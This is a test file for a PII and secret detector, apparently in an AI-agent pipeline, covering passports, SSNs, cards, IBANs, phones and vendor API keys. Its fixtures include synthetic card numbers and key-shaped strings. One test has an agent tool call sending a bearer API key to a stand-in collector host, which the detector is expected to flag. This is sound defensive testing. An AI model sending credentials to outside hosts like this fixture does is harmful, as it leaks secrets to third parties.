import { describe, expect, it } from 'vitest';
import { scanPii, scanPiiInCall } from '../../../../src/pipeline/detectors/pii/index.js';
import type { ToolCall } from '../../../../src/pipeline/types.js';
import type { PiiType } from '../../../../src/pipeline/detectors/pii/index.js';

/** The types found in `text`, with the text each covers. */
const found = (text: string): [PiiType, string][] => scanPii(text).map((f) => [f.type, text.slice(f.start, f.end)]);
const spans = (text: string, type: PiiType): string[] => found(text).filter(([t]) => t === type).map(([, v]) => v);

// synthetic, checksum-valid values
const CARD = '4526018159083012';
const ES = 'ES2896030824628194821993';
const DE_BAD = 'DE54231948757491186252'; // check digits wrong

describe('PII formats: passports named in other languages', () => {
  it.each([
    ['Numéro de passeport : 18AV12345', '18AV12345'],
    ['pasaporte número X1234567Z', 'X1234567Z'],
    ['numero di passaporto YA1234567', 'YA1234567'],
    ['Reisepass C01X00T47 von Jana Maier', 'C01X00T47'],
    ['Passnummer: C4J7KM9PX', 'C4J7KM9PX'],
    ['paspoort nummer NXC2R4LF1', 'NXC2R4LF1'],
  ])('%s', (text, value) => {
    expect(spans(text, 'PASSPORT')).toEqual([value]);
  });

  it('a code with few digits far from the word is not a passport', () => {
    expect(spans('Reisepass beantragt; Termin im Bürgeramt, Vorgang ABCD12EF', 'PASSPORT')).toEqual([]);
    expect(spans('passeport perdu, code postal 75001', 'PASSPORT')).toEqual([]);
  });
});

describe('PII formats: SSN labels and separators', () => {
  it.each([
    ['SS#: 219-09-9999', '219-09-9999'],
    ['SSN#123-45-6780', '123-45-6780'],
    ['Social: 536 22 8726', '536 22 8726'],
    ['social no. 536228726', '536228726'],
    ["Liam O'Brien (111 38 1627) social security", '111 38 1627'],
  ])('%s', (text, value) => {
    expect(spans(text, 'SSN')).toEqual([value]);
  });

  it('spaced nine digits after a non-SSN "social" word are not an SSN', () => {
    expect(spans('social media reach 536 22 8726 impressions', 'SSN')).toEqual([]);
  });
});

describe('PII formats: cards and IBANs in other groupings', () => {
  it('a card in dotted groups', () => {
    expect(spans(`CC: ${CARD.slice(0, 4)}.${CARD.slice(4, 8)}.${CARD.slice(8, 12)}.${CARD.slice(12)}`, 'CREDIT_CARD')).toHaveLength(1);
  });

  it('a dotted Luhn-failing number or a version is not a card', () => {
    expect(spans('build 4526.0181.5908.3013', 'CREDIT_CARD')).toEqual([]);
  });

  it('an IBAN in hyphenated groups', () => {
    const dashed = ES.match(/.{1,4}/g)!.join('-');
    expect(spans(`Cuenta ${dashed}`, 'IBAN')).toEqual([dashed]);
  });

  it('a hyphenated IBAN shape with wrong check digits is not an IBAN', () => {
    expect(spans(`Ref ${DE_BAD.match(/.{1,4}/g)!.join('-')}`, 'IBAN')).toEqual([]);
  });
});

describe('PII formats: phones', () => {
  it.each([
    ['Bel Mateus op 06-12345678 voor de afspraak.', '06-12345678'],
    ['I spoke to Priya (089/12345678) yesterday.', '089/12345678'],
    ['Call me ((+44) 20 7946 0958) tomorrow', '(+44) 20 7946 0958'],
    ['Kontakt Frau Maier: 333 1234567', '333 1234567'],
    ['Ivan Petrov, 8 800 555 35 35, Moscow', '8 800 555 35 35'],
    ['Li Wei, 138 0013 8000, Beijing', '138 0013 8000'],
    ['Rückruf bitte an 0711 / 123 456 78 (Stuttgart).', '0711 / 123 456 78'],
  ])('%s', (text, value) => {
    expect(spans(text, 'PHONE')).toEqual([value]);
  });

  it.each([
    'Tracking number 1Z 999 AA1 01 2345 6784',
    'call stack depth 1234567 exceeded',
    'SIN 046 454 286',
    'shipped 138 0013 8000 units',
    'ratio 0123/4567 of the sample',
    'Ausgabe 03/2024, Seite 012 / 345',
    'Steuernummer: 0123 456 7890',
  ])('%s: no phone', (text) => {
    expect(spans(text, 'PHONE')).toEqual([]);
  });
});

describe('PII formats: addresses and keys', () => {
  it('the IPv6 loopback and unspecified addresses are nobody\'s, like 127.0.0.1', () => {
    expect(spans('listen on ::1 or :: or 0:0:0:0:0:0:0:1', 'IP_ADDRESS')).toEqual([]);
    expect(spans('route fe80::1%eth0 via 2001:db8::1', 'IP_ADDRESS')).toEqual(['fe80::1', '2001:db8::1']);
  });

  it('a version after a software word is not an address', () => {
    expect(spans('firmware 10.2.0.7 installed', 'IP_ADDRESS')).toEqual([]);
  });

  it('a Twilio API key SID', () => {
    expect(spans('Twilio API key SID SK6bca3db4219ad9ab8a034aaa2e8febc2', 'API_KEY')).toHaveLength(1);
    expect(spans('SKU 9780140449136 and SKIP', 'API_KEY')).toEqual([]);
  });

  it('an AWS secret key named after it (docs sample: low confidence)', () => {
    const f = scanPii('Example: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY is the aws secret in docs');
    expect(f.map((x) => x.type)).toEqual(['AWS_KEY']);
    expect(f[0]!.confidence).toBeLessThan(0.5);
  });
});

describe('PII formats: labelled values that fail their checksum (typed or generated)', () => {
  it.each([
    ['card number: 4111 1111 1111 1112', 'CREDIT_CARD', '4111 1111 1111 1112'],
    ['Mastercard 5425233430109904 exp 03/26', 'CREDIT_CARD', '5425233430109904'],
    ['IBAN: GB32 YGJR 4627 2857 8224 46', 'IBAN', 'GB32 YGJR 4627 2857 8224 46'],
    ['SSN: 987-65-4321', 'SSN', '987-65-4321'],
    ['Social security no. 512.44.9012', 'SSN', '512.44.9012'],
  ] as const)('%s', (text, type, value) => {
    const f = scanPii(text).filter((x) => x.type === type);
    expect(f.map((x) => text.slice(x.start, x.end))).toEqual([value]);
  });

  it.each([
    'Example card number: 4111 1111 1111 1112 (fails Luhn)',
    'Order 4111 1111 1111 1112 was shipped',
    'Invalid IBAN example GB32 YGJR 4627 2857 8224 46',
    'ticket 987-65-4321 closed',
    'SSN: 000-00-0000 (redacted)',
    'version 123.45.6789 of the data',
  ])('%s: nothing', (text) => {
    expect(found(text).filter(([t]) => t !== 'PHONE')).toEqual([]);
  });
});

describe('PII formats: more vendors, found from the separator that ends their prefix', () => {
  it.each([
    ['GROQ_API_KEY=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', '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'],
    ['perplexity key 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', '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'],
    ['Bearer ya29.g8WY1jzIRlNQb0prFmbh7_wy5yq1XoY1BaIMcAxYmfsB4HbQLXjjlAFbVV6q', 'ya29.g8WY1jzIRlNQb0prFmbh7_wy5yq1XoY1BaIMcAxYmfsB4HbQLXjjlAFbVV6q'],
    ['DOPPLER_TOKEN=dp.st.prd.9LE1Ki3ylOjt6o0NpUmkVO8JmR8y4EMfAdggcG9qpVT', 'dp.st.prd.9LE1Ki3ylOjt6o0NpUmkVO8JmR8y4EMfAdggcG9qpVT'],
    ['AGE-SECRET-KEY-1ES6LJTYGW7Y3DDPY36U0RZTJHG9HGU4GZP7KNZPY7YN5GYYUHZG4K97Y6P', 'AGE-SECRET-KEY-1ES6LJTYGW7Y3DDPY36U0RZTJHG9HGU4GZP7KNZPY7YN5GYYUHZG4K97Y6P'],
    ['mailchimp f0cc022238daceee2092f073ff80b946-us21 ok', 'f0cc022238daceee2092f073ff80b946-us21'],
    ['supabase sbp_5aef7ac86d66c7a644fb12853ef86dcfaea21818', 'sbp_5aef7ac86d66c7a644fb12853ef86dcfaea21818'],
  ])('%s', (text, value) => {
    expect(spans(text, 'API_KEY')).toEqual([value]);
  });

  it.each([
    'The ya29. prefix marks Google access tokens.',
    'dp.st. is a Doppler service token prefix',
    'xai-grok-2-latest model',
    'use glc_ or glsa_ tokens for Grafana',
    'Use key-value pairs in the config.',
    'Set github_pat_ tokens to expire in 30 days.',
    'sk-learn is not the package name; use scikit-learn',
    'risk_level=high and my-sk-value',
  ])('%s: no key', (text) => {
    expect(spans(text, 'API_KEY')).toEqual([]);
  });

  it('long runs of separators and prefixes stay quick', () => {
    for (const unit of ['_', '-', '.', 'sk-', 'hooks.', 'key-', 'AIza', 'github_', 'passport A1B2C3D4 ']) {
      const text = unit.repeat(Math.ceil(32_768 / unit.length));
      const t0 = performance.now();
      scanPii(text);
      expect(performance.now() - t0).toBeLessThan(1_000);
    }
  });
});

describe('PII formats: the newer vendors\' keys are in use only at their own hosts', () => {
  const GROQ = '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';
  const families = (args: Record<string, unknown>): string[] =>
    scanPiiInCall({ tool: 'http_request', args, agentId: 'a', sessionId: null } as unknown as ToolCall).map((f) => f.family);

  it('a Groq key in the Authorization header of a request to Groq is in use', () => {
    expect(families({ url: 'https://api.groq.com/openai/v1/models', headers: { Authorization: `Bearer ${GROQ}` } })).toEqual(['pii_api_key_in_use']);
  });

  it('the same key sent to another host keeps its risk', () => {
    expect(families({ url: 'https://collector.example.net/x', headers: { Authorization: `Bearer ${GROQ}` } })).toEqual(['pii_api_key']);
  });
});

describe('PII formats: e-mail addresses with internationalised domains', () => {
  it.each([
    ['Schreiben Sie an info@münchen.de bitte', 'info@münchen.de'],
    ['連絡は taro@example.comまで', 'taro@example.com'],
  ])('%s', (text, value) => {
    expect(spans(text, 'EMAIL')).toEqual([value]);
  });
});
